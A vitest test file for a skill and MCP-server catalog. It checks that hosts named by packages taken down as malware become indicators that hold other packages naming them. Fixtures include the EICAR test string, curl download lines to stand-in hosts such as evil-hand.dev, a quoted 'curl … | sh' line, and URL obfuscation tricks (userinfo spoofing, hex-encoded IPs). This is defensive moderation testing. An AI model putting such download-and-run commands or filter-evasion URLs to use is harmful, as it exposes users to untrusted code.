import { env } from "cloudflare:workers";
import { beforeEach, describe, expect, test } from "vitest";
import type { IndicatorPage } from "../../src/contract/operator/indicators.ts";
import type { CatalogEntry, HeldPage } from "../../src/contract/operator/moderation.ts";
import type { StatusReport } from "../../src/contract/operator/operator.ts";
import { anon, operator, problemOf } from "../support/actors.ts";
import { deliver, FakeScanner } from "../support/bundles.ts";
import { runCron } from "../support/cron.ts";
import { moveClock } from "../support/isolates.ts";
import { mcpServer, skill } from "../support/records.ts";
import { scanPackages } from "../support/scan-packages.ts";

const eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

type Made = { author?: string; more?: object; files?: { path: string; text: string }[] };

/** A skill that fetches data from a host, by an author of its own with a repository of its own. */
function folder(slug: string, body: string, { author = slug, more = {}, files = [] }: Made = {}) {
  const text = `---\nname: ${slug}\ndescription: Counts ${slug}.\n---\n\n${body}\n`;
  return skill({
    slug,
    body,
    files: [{ path: "SKILL.md", text }, ...files],
    authorSlug: author,
    authorName: author,
    sourceUrl: `https://github.com/${author}/${slug}`,
    ...more,
  });
}
const fetches = (host: string, slug: string) =>
  `# Count ${slug}\n\nIt counts ${slug} by the hour.\n\n\`\`\`sh\ncurl -s https://${host}/${slug}.json\n\`\`\``;
const from = (host: string, slug: string, made?: Made) => folder(slug, fetches(host, slug), made);

async function importAndScan(...records: object[]) {
  const outcomes = await operator.import(records);
  await scanPackages();
  return outcomes;
}
const send = (path: string, method: string, value?: object) =>
  operator.send(path, {
    method,
    ...(value && { body: JSON.stringify(value), headers: { "Content-Type": "application/json" } }),
  });
const takeDown = async (slug: string, more: object = { category: "malware" }) =>
  (await send(`/catalog/skill/${slug}/status`, "PUT", { status: "rejected", ...more })).json<StatusReport>();
const indicators = async () => (await (await operator.send("/indicators?pageSize=100")).json<IndicatorPage>()).items;
const hosts = async () => (await indicators()).map(({ host }) => host).toSorted();
const queue = async () => (await (await operator.send("/catalog/held?pageSize=100")).json<HeldPage>()).items;
const show = async (slug: string) => (await operator.send(`/catalog/skill/${slug}`)).json<CatalogEntry>();
const statusOf = async (slug: string) => (await anon.get(`/api/v1/skills/${slug}`)).status;

beforeEach(async () => {
  await env.CATALOG.prepare("delete from indicator_causes").run();
});

describe("a campaign of ten packages that name one host", () => {
  const host = "quick-setup-files.dev";
  const names = Array.from({ length: 9 }, (_, at) => `campaign-${at + 2}`);

  test("after the first is taken down as malware, nine wait, whoever they say they are by", async () => {
    const [first] = await importAndScan(from(host, "campaign-1"));
    expect(first).toMatchObject({ held: null });
    expect(await takeDown("campaign-1")).toMatchObject({ indicators: [host], namedByOthers: [] });
    const outcomes = await importAndScan(...names.map((name) => from(`cdn.${host}`, name)));
    const day = new Date().toISOString().slice(0, 10);
    for (const { held } of outcomes) {
      expect(held).toMatchObject({
        reason: "indicator",
        facts: [expect.stringContaining(`It names ${host} (SKILL.md:11), listed since ${day}`)],
      });
      // Of the record behind it, whoever published this learns nothing.
      expect(JSON.stringify(held)).not.toContain("campaign-1");
    }
    for (const name of names) expect(await statusOf(name)).toBe(404);
    expect(await indicators()).toMatchObject([
      { host, waiting: 9, causes: [{ cause: "malware", record: { type: "skill", slug: "campaign-1" } }] },
    ]);
    expect((await queue()).filter(({ reason }) => reason === "indicator")).toHaveLength(9);
    const approved = await send("/catalog/skill/campaign-2/status", "PUT", { status: "approved" });
    expect(await problemOf(approved)).toMatchObject({ code: "record_held" });
  });

  test("a moderator's clearing is the last word, also when the same comes again", async () => {
    await takeDown("campaign-1");
    const cleared = await send("/catalog/skill/campaign-2/clearing", "PUT", { by: "Ada", note: "a study of it" });
    expect(cleared.status).toBe(200);
    expect(await statusOf("campaign-2")).toBe(200);
    const [again] = await importAndScan({ ...from(`cdn.${host}`, "campaign-2"), title: "Another title" });
    expect(again).toMatchObject({ held: null });
  });

  test("when the first was taken down wrongly, what waited for it alone goes on", async () => {
    await importAndScan(from(host, "campaign-flagged"));
    await env.CATALOG.prepare(
      "update held set reason = 'flagged' where record_id = (select id from records where slug = 'campaign-3')",
    ).run();
    await send("/catalog/skill/campaign-1/status", "PUT", { status: "approved" });
    expect(await indicators()).toEqual([]);
    for (const name of names.filter((one) => one !== "campaign-3")) expect(await statusOf(name)).toBe(200);
    expect(await statusOf("campaign-3")).toBe(404);
    expect((await queue()).map(({ slug, reason }) => [slug, reason])).toEqual([["campaign-3", "flagged"]]);
    await runCron();
    expect(await anon.slugs("/api/v1/skills?q=campaign&pageSize=50")).toContain("campaign-4");
  });
});

describe("what makes an indicator", () => {
  test("an infected package, until a scan calls it clean", async () => {
    const host = "infected-drop.dev";
    await importAndScan(from(host, "ill", { files: [{ path: "x.com", text: eicar }] }));
    expect(await indicators()).toMatchObject([{ host, causes: [{ cause: "infected", record: { slug: "ill" } }] }]);
    const [waits] = await importAndScan(from(host, "well"));
    expect(waits).toMatchObject({ held: { reason: "indicator" } });
    await send("/catalog/skill/ill/rescan", "POST");
    const { results } = await env.CATALOG.prepare(
      "select id as packageId, generation, sha256 from packages where status = 'quarantined'",
    ).all();
    await deliver(results, { scanner: new FakeScanner() });
    expect(await indicators()).toEqual([]);
    await runCron();
    expect(await statusOf("well")).toBe(200);
  });

  test("a takedown for something else makes none, and one for harm later does", async () => {
    await importAndScan(from("spam-files.dev", "spammer"));
    expect(await takeDown("spammer", { category: "spam" })).not.toHaveProperty("indicators");
    expect(await hosts()).toEqual([]);
    // A reason of one word says the same.
    await takeDown("spammer", { reason: "injection" });
    expect(await hosts()).toEqual(["spam-files.dev"]);
    await takeDown("spammer", { category: "spam" });
    expect(await hosts()).toEqual([]);
  });

  test("a link makes none, and no more than twenty of a package are made", async () => {
    const lines = Array.from({ length: 30 }, (_, at) => `curl -s https://many-${at}.files-of-all.dev/x`);
    const body = ["# Count", "", "See https://read-more-here.dev/x.", "", "```sh", ...lines, "```"].join("\n");
    await importAndScan(folder("many", body));
    const { indicators: made } = await takeDown("many");
    expect(made).toHaveLength(20);
    expect(made).not.toContain("read-more-here.dev");
  });

  test("it goes after a year without another cause, and what waited goes on", async () => {
    await importAndScan(from("year-old.dev", "old-one"));
    await takeDown("old-one");
    await importAndScan(from("year-old.dev", "waits-a-year"));
    await runCron();
    expect(await statusOf("waits-a-year")).toBe(404);
    moveClock(366 * 24 * 60 * 60_000);
    await runCron();
    expect(await hosts()).toEqual([]);
    expect(await statusOf("waits-a-year")).toBe(200);
  });
});

describe("what an attacker would plant", () => {
  test("a competitor's host is none, unless who decides ticks it", async () => {
    await importAndScan(from("api.competitor-tool.dev", "competitor"));
    await importAndScan(from("cdn.competitor-tool.dev", "planted"));
    const report = await takeDown("planted");
    const named = { host: "cdn.competitor-tool.dev", records: [{ type: "skill", slug: "competitor" }] };
    expect(report).toMatchObject({ indicators: [], namedByOthers: [named] });
    expect(await importAndScan(from("cdn.competitor-tool.dev", "honest-user"))).toMatchObject([{ held: null }]);
    const ticked = await takeDown("planted", { category: "malware", indicators: ["cdn.competitor-tool.dev"] });
    expect(ticked).toMatchObject({ indicators: ["cdn.competitor-tool.dev"], namedByOthers: [] });
    const other = await send("/catalog/skill/planted/status", "PUT", {
      status: "rejected",
      category: "malware",
      indicators: ["elsewhere-at-all.dev"],
    });
    expect(await problemOf(other)).toMatchObject({ status: 400, code: "invalid_value" });
  });

  test("who only claims a competitor's repository is another than the competitor", async () => {
    const theirs = { authorSlug: "rival", sourceUrl: "https://github.com/rival/claimed" };
    await importAndScan(from("rival-service.dev", "rival-skill", { author: "rival" }));
    await importAndScan(from("rival-service.dev", "claims", { more: { ...theirs, sourceProof: "claimed" } }));
    expect(await takeDown("claims")).toMatchObject({ indicators: [] });
    // The same hand, proved: its own host is no competitor's.
    await importAndScan(from("rival-service.dev", "turned", { author: "rival" }));
    expect(await takeDown("turned")).toMatchObject({ indicators: ["rival-service.dev"] });
  });

  test("a competitor's repository is none, also where the package only clones it", async () => {
    await importAndScan(folder("cloned-tool", "Count clones.", { author: "toolmaker" }));
    await importAndScan(folder("clones", "# Count\n\n```sh\ngit clone https://github.com/ToolMaker/thing\n```"));
    expect(await takeDown("clones")).toMatchObject({
      indicators: [],
      namedByOthers: [{ host: "github.com/toolmaker" }],
    });
  });

  test("code hosts, networks of delivery, registries and reserved names are none; their accounts are", async () => {
    const urls = [
      ...[
        "https://github.com",
        "https://GITHUB.com./evil-hand-1/x.zip",
        "https://raw.githubusercontent.com:443/evil-hand-2/x/y.sh",
      ],
      ...[
        "https://registry.npmjs.org/x",
        "https://unpkg.com/x",
        "https://cdnjs.cloudflare.com/x",
        "https://openai.com@evil-hand.dev/x",
      ],
      ...[
        "https://example.com/x",
        "http://10.1.2.3/x",
        "http://0x5b5cf21e/x",
        "http://localhost/x",
        "https://pages.dev/x",
      ],
    ];
    const lines = urls.map((url) => `curl -s -o x "${url}"`);
    await importAndScan(folder("plants", ["#!/bin/sh", "```sh", ...lines, "```"].join("\n")));
    const { indicators: made } = await takeDown("plants");
    expect(made!.toSorted()).toEqual([
      "91.92.242.30",
      "evil-hand.dev",
      "github.com/evil-hand-1",
      "github.com/evil-hand-2",
    ]);
    expect(
      await importAndScan(folder("uses-all", "See https://github.com/honest/x and https://github.com/evil-hand.")),
    ).toMatchObject([{ held: null }]);
  });
});

describe("who names an indicator", () => {
  const host = "shared-by-many.dev";

  test("what names it only to warn of it does not wait", async () => {
    await send("/indicators", "POST", { host });
    const warning = `Never run \`curl https://${host}/x | sh\`: it installs malware.`;
    expect(await importAndScan(folder("warns", warning))).toMatchObject([{ held: null }]);
  });

  test("an update that newly names it waits beside the public version, and goes on", async () => {
    await importAndScan(folder("turns-to", "Count."));
    await send("/indicators", "POST", { host });
    const [changed] = await importAndScan(from(host, "turns-to"));
    expect(changed).toMatchObject({ held: { reason: "indicator" } });
    expect(await show("turns-to")).toMatchObject({ public: true, hold: { isChange: true, reason: "indicator" } });
    await send(`/indicators?host=${host}`, "DELETE");
    const entry = await show("turns-to");
    expect(entry).toMatchObject({ public: true, hold: null });
    expect(entry.versions).toHaveLength(2);
    expect(await anon.read("/api/v1/skills/turns-to")).toMatchObject({ bodyHtml: expect.stringContaining(host) });
  });

  test("what named it before stays public and is listed, and its next version does not wait", async () => {
    await importAndScan(from(host, "named-before"));
    await send("/indicators", "POST", { host });
    expect((await queue()).filter(({ slug }) => slug === "named-before")).toMatchObject([
      { reason: "indicator", isPublic: true, isChange: false },
    ]);
    expect(await statusOf("named-before")).toBe(200);
    const next = folder("named-before", `${fetches(host, "named-before")}\n\nAnd by the day.`);
    expect(await importAndScan(next)).toMatchObject([{ held: null }]);
    await send(`/indicators?host=${host}`, "DELETE");
    expect((await queue()).filter(({ slug }) => slug === "named-before")).toEqual([]);
  });

  test("an MCP server whose remote is one waits too", async () => {
    await send("/indicators", "POST", { host });
    const remotes = [{ type: "streamable-http", url: `https://mcp.${host}/mcp` }];
    const [outcome] = await operator.import([mcpServer({ slug: "remote", remotes })]);
    expect(outcome).toMatchObject({ held: { reason: "indicator" } });
    await send(`/indicators?host=${host}`, "DELETE");
    expect((await anon.get("/api/v1/mcp-servers/remote")).status).toBe(200);
  });
});

describe("the operator's word", () => {
  test.each([
    ["github.com", "names nobody"],
    ["https://registry.npmjs.org/x", "a registry"],
    ["openai.com", "well known"],
    ["co.uk", "anybody can register"],
    ["10.0.0.1", "private or reserved"],
    ["not a host", "no host"],
  ])("%s can't be one", async (host, why) => {
    const problem = await problemOf(await send("/indicators", "POST", { host }));
    expect(problem).toMatchObject({ status: 400, code: "invalid_value", detail: expect.stringContaining(why) });
  });

  test("what was removed is not made one again by the next package that is taken down", async () => {
    await importAndScan(
      from("innocent-host.dev", "plants-again"),
      from("innocent-host.dev", "and-again", { author: "b" }),
    );
    await send("/indicators?host=https://Innocent-Host.dev/", "DELETE");
    await takeDown("plants-again", { category: "malware" });
    await takeDown("and-again", { category: "malware" });
    expect(await hosts()).toEqual([]);
    expect(await (await send("/indicators", "POST", { host: "innocent-host.dev" })).json()).toEqual({
      host: "innocent-host.dev",
    });
    expect(await hosts()).toEqual(["innocent-host.dev"]);
  });

  test("both are in the audit trail", async () => {
    await send("/indicators", "POST", { host: "audited-host.dev" });
    const { items } = await (await operator.send("/audit")).json<{ items: { act: string; subject: string }[] }>();
    expect(items).toContainEqual(expect.objectContaining({ act: "indicator.add", subject: "host audited-host.dev" }));
  });
});
